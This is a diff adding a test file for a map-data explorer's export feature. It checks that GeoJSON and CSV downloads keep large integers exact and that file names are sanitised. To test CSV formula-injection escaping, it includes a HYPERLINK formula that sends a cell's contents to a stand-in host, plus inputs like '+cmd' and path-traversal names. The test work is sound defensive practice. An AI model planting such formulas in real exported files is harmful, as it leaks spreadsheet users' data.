@@ -1,0 +1,187 @@
+// What the explorer saves: the units as the service sent them, digit for digit, and their properties as CSV.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { gdal } from '../../generator/source/gdal.ts';
+import { elementsOf, featuresOf, membersOf } from '../../proxy/explorer/api/json-text.js';
+import { featuresToCsv } from '../../proxy/explorer/download/csv.js';
+import { toCsv, toGeoJson, toGeoJsonLines } from '../../proxy/explorer/download/units-file.js';
+import { countryLayers } from '../support/datasets/small-datasets.ts';
+import { runSql, writeDataset } from '../support/datasets/write-dataset.ts';
+import { send, textOf } from '../support/http/http-client.ts';
+import { AUTHORIZED, startService } from '../support/http/in-process-proxy.ts';
+import { onPageAt, runInPage, WITHOUT_CHROMIUM } from '../support/processes/chromium.ts';
+import { buildRelease } from '../support/releases/build-release.ts';
+import { temporaryFolder } from '../support/temporary-folder.ts';
+
+/** No double has this value: JSON.parse makes it 9007199254740992. */
+const BEYOND_DOUBLES = '9007199254740993';
+const FORMULA = '=HYPERLINK("http://x.test?"&A1)';
+
+const source = join(temporaryFolder(), 'numbers.gpkg');
+const layers = countryLayers().map((layer) => ({
+  ...layer,
+  columns: [...layer.columns, { name: 'code', type: gdal.OFTInteger64 }, 'note'],
+  features: layer.features.map((unit, i) => ({ ...unit, values: [...unit.values, i, [FORMULA, null, '', '-'][i]] })),
+}));
+writeDataset(source, 'GPKG', layers);
+const dataset = gdal.open(source, 'r+');
+for (const { name } of layers) runSql(dataset, `UPDATE ${name} SET code = ${BEYOND_DOUBLES} WHERE fid = 1`);
+dataset.close();
+const folder = temporaryFolder();
+await buildRelease(source, folder, { attribution: ['Tests & "friends"'] });
+const proxy = await startService(folder, { explorer: true });
+
+async function pageText(path: string): Promise<string> {
+  const answer = await send(proxy, path);
+  assert.equal(answer.status, 200);
+  return textOf(answer);
+}
+
+const lines = (await pageText('/api/v1/geojsonl/lv2')).trimEnd().split('\n');
+const content = {
+  features: lines,
+  matched: lines.length,
+  release: 'r1',
+  level: 2,
+  parents: [],
+  attribution: ['Tests & "friends"'],
+};
+
+test('the service sends an integer that JSON.parse would change', () => {
+  assert.equal(lines.length, 4);
+  assert.match(lines[0] ?? '', new RegExp(`"code":${BEYOND_DOUBLES},`));
+  assert.notEqual(String(JSON.parse(lines[0] ?? '').properties.code), BEYOND_DOUBLES);
+});
+
+test('the text of each Feature is the same from a page of either format', async () => {
+  const fc = await pageText('/api/v1/fc/lv2');
+  assert.deepEqual(featuresOf(fc, 'application/geo+json'), lines);
+  assert.deepEqual(featuresOf(`${lines.join('\n')}\n`, 'application/x-ndjson'), lines);
+  assert.deepEqual(featuresOf('{"type":"FeatureCollection","features":[]}', 'application/geo+json'), []);
+  assert.deepEqual(featuresOf('', 'application/x-ndjson'), []);
+  assert.throws(() => featuresOf('{"type":"Feature"}', 'application/geo+json'), SyntaxError);
+});
+
+test('the parts of JSON are those that JSON.parse finds, whatever is in the strings and between the tokens', () => {
+  const values = ['"}],{[\\""', '"\\\\"', '{"a":[1,{"b":"]"}]}', '-1.5e+300', 'null', 'true', '[]', '[[],[[0]]]', '""'];
+  for (const space of ['', ' ', '\n\t ']) {
+    const array = `${space}[${space}${values.join(`${space},${space}`)}${space}]${space}`;
+    assert.deepEqual(elementsOf(array), values);
+    const members = values.map((value, i) => `"n\\"${i}"${space}:${space}${value}${space}`);
+    const object = `${space}{${space}${members.join(`,${space}`)}}`;
+    assert.deepEqual(
+      [...membersOf(object)],
+      values.map((value, i) => [`n"${i}`, value]),
+    );
+    JSON.parse(array);
+    JSON.parse(object);
+  }
+  assert.deepEqual(elementsOf('[ ]'), []);
+  assert.deepEqual([...membersOf('{ }')], []);
+  for (const cut of ['[{"a":', '["a', '[[1,2']) assert.throws(() => elementsOf(cut), SyntaxError);
+});
+
+test('GeoJSON has every unit unchanged, how many there are and whose they are', () => {
+  const { name, type, parts } = toGeoJson(content);
+  const text = parts.join('');
+  assert.deepEqual([name, type], ['r1-lv2.geojson', 'application/geo+json']);
+  assert.deepEqual(featuresOf(text, 'application/geo+json'), lines);
+  const { features, ...members } = JSON.parse(text);
+  assert.equal(features.length, 4);
+  assert.deepEqual(members, {
+    type: 'FeatureCollection',
+    numberMatched: 4,
+    numberReturned: 4,
+    attribution: ['Tests & "friends"'],
+  });
+  assert.deepEqual(JSON.parse(toGeoJson({ ...content, features: [], matched: 0 }).parts.join('')).features, []);
+});
+
+test('GeoJSONSeq is what the service sends: a Feature a line without record separators', async () => {
+  const { name, type, parts } = toGeoJsonLines(content);
+  assert.deepEqual([name, type], ['r1-lv2.geojsonl', 'application/x-ndjson']);
+  assert.equal(parts.join(''), await pageText('/api/v1/geojsonl/lv2'));
+});
+
+test('GDAL reads both files, with every digit', () => {
+  for (const { name, parts } of [toGeoJson(content), toGeoJsonLines(content)]) {
+    const file = `/vsimem/${name}`;
+    gdal.vsimem.set(Buffer.from(parts.join('')), file);
+    const read = gdal.open(file);
+    const layer = read.layers.get(0);
+    assert.equal(layer.features.count(), 4, name);
+    assert.equal(layer.fields.get('code').type, gdal.OFTInteger64);
+    read.close();
+    gdal.vsimem.release(file);
+  }
+});
+
+test('CSV begins with a byte order mark and fid, ends lines with CR LF, and has every digit', () => {
+  const text = toCsv(content).parts.join('');
+  assert.equal(
+    text,
+    [
+      '\ufefffid,GID_2,GID_0,COUNTRY,GID_1,NAME_1,NAME_2,code,note',
+      `1,AAA.1.1_1,AAA,Aland,AAA.1_1,North,Næst,${BEYOND_DOUBLES},"'=HYPERLINK(""http://x.test?""&A1)"`,
+      '2,AAA.2.1_1,AAA,Aland,AAA.2_1,South,Søst,1,',
+      '3,BBB.1.1_1,BBB,Beland,BBB.1_1,All,東,2,""',
+      `4,AAA.1.2_1,AAA,Aland,AAA.1_1,North,"Wüst ""late""",3,-`,
+      '',
+    ].join('\r\n'),
+  );
+  assert.deepEqual([toCsv(content).name, toCsv(content).type], ['r1-lv2.csv', 'text/csv;charset=utf-8']);
+});
+
+test('CSV has the columns of all units, an empty cell where one lacks it, and values of every kind', () => {
+  const features = [
+    '{"type":"Feature","id":7,"properties":{"b":null,"=c":true}}',
+    '{"type":"Feature","id":8,"properties":{"a":1e3,"b":{"x":[1,"y"]},"fid":8}}',
+    '{"type":"Feature","id":9,"properties":null}',
+  ];
+  const rows = featuresToCsv(features).join('').slice(1).split('\r\n');
+  assert.deepEqual(rows, ["fid,b,'=c,a", '7,,true,', '8,"{""x"":[1,""y""]}",,1e3', '9,,,', '']);
+});
+
+test('a text that a spreadsheet would run as a formula is marked; numbers and other texts are not', () => {
+  const cellOf = (value: unknown): string => {
+    const [, , row = ''] = featuresToCsv([JSON.stringify({ id: 1, properties: { x: value } })]);
+    return row.slice('1,'.length, -'\r\n'.length);
+  };
+  for (const text of ['=1', '+cmd', '-x', '@sum', '-1+1', '- ']) assert.match(cellOf(text), /^"?'[=+\-@]/, text);
+  for (const text of ['\t=1', '\r=1']) assert.match(cellOf(text), /^"?'\s=1"?$/, text);
+  for (const value of [-5, 0, 1.5, -1e-7, '-5', '+34', '-1.5', '-', "L'Aquila", 'a=b', "'x"])
+    assert.equal(cellOf(value), String(value));
+  assert.equal(cellOf('a,b'), '"a,b"');
+  assert.equal(cellOf('two\nlines'), '"two\nlines"');
+  assert.equal(cellOf(' x'), '" x"');
+});
+
+test('the name of a file says what is in it: release, level, parents, and whether units are missing', () => {
+  const nameOf = (more: object): string => toCsv({ ...content, ...more }).name;
+  assert.equal(nameOf({ parents: ['ESP', 'ESP.1_1'] }), 'r1-lv2-ESP-ESP.1_1.csv');
+  assert.equal(nameOf({ matched: 8212 }), 'r1-lv2-part-4-of-8212.csv');
+  assert.equal(nameOf({ isOverview: true }), 'r1-lv2-simplified.csv');
+  assert.equal(nameOf({ parents: ['a/../b', '"x"<y>:|?*\n', '東京'] }), 'r1-lv2-a_.._b-_x_y_-東京.csv');
+  assert.equal(nameOf({ release: '..', parents: ['x'.repeat(500)] }).length, '.csv'.length + 120);
+});
+
+test('a browser saves the units of a page of either format as they were sent', { skip: WITHOUT_CHROMIUM }, async () => {
+  for (const format of ['geojsonl', 'fc']) {
+    const saved = await onPageAt(`${proxy.url}/docs`, async (page) => {
+      const saving = runInPage(
+        page,
+        `const { createClient } = await import('/explorer/api/client.js');
+        const { toGeoJsonLines } = await import('/explorer/download/units-file.js');
+        const { save } = await import('/explorer/download/save.js');
+        const client = createClient({ base: location.origin + '/', token: () => ${JSON.stringify(AUTHORIZED.authorization.slice('Bearer '.length))} });
+        const { units, matched, release } = await client.page(client.urlOf('${format}/lv2'), new AbortController().signal);
+        save(toGeoJsonLines({ features: units.map(({ text }) => text), matched, release, level: 2, parents: ['é'], attribution: [] }));`,
+      );
+      const [file] = await Promise.all([page.waitForEvent('download'), saving]);
+      return [file.suggestedFilename(), readFileSync(await file.path(), 'utf8')];
+    });
+    assert.deepEqual(saved, ['r1-lv2-é.geojsonl', await pageText('/api/v1/geojsonl/lv2')]);
+  }
+});
